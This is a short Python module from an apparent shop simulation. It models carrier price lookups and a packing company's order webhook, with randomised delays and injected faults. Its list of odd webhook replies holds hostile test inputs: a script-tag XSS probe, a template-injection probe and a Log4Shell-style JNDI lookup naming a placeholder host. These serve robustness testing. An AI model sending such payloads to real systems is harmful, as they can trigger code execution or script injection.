"""The shop's partners: carriers that ship, and the company that packs."""

from .clock import clock
from .day import day
from .dice import Dice, Quantiles, dice
from .facts import fault

CARRIERS = ("swift", "sturdy")
"""Whom the shop ships with."""

_CARRIER: Quantiles = ((0.0, 8), (0.5, 22), (0.9, 60), (1.0, 140))

_ODD_ANSWERS = (
    "<html><body>503 Service Temporarily Unavailable",
    "  <script>alert(1)</script>",
    "\t<{{ 7 * 7 }} ${jndi:ldap://x.example.com/a}",
    "| *bold* [link](https://example.com/?token=1) |",
)


async def carrier_price(carrier: str) -> int | None:
    """What the carrier asks for a parcel, in cents; none when it does not answer."""
    await clock.wait(dice().quantile(_CARRIER))
    # They share a line: either both are out of reach of a request or none.
    if Dice(f"{dice().name}/carriers").chance(0.02 * day.faults(clock.now())):
        if carrier == CARRIERS[0]:
            fault("checkout.no-carrier")
        return None
    return dice().whole(390, 1_290)


async def packing_answer(order_id: str) -> str:
    """What the packing company's server says to a new order: JSON, almost always."""
    await clock.wait(dice().uniform(30, 200))
    if dice().chance(0.0035):
        fault("checkout.order-webhook-json")
        return dice().pick(_ODD_ANSWERS)
    return f'{{"accepted": "{order_id}"}}'
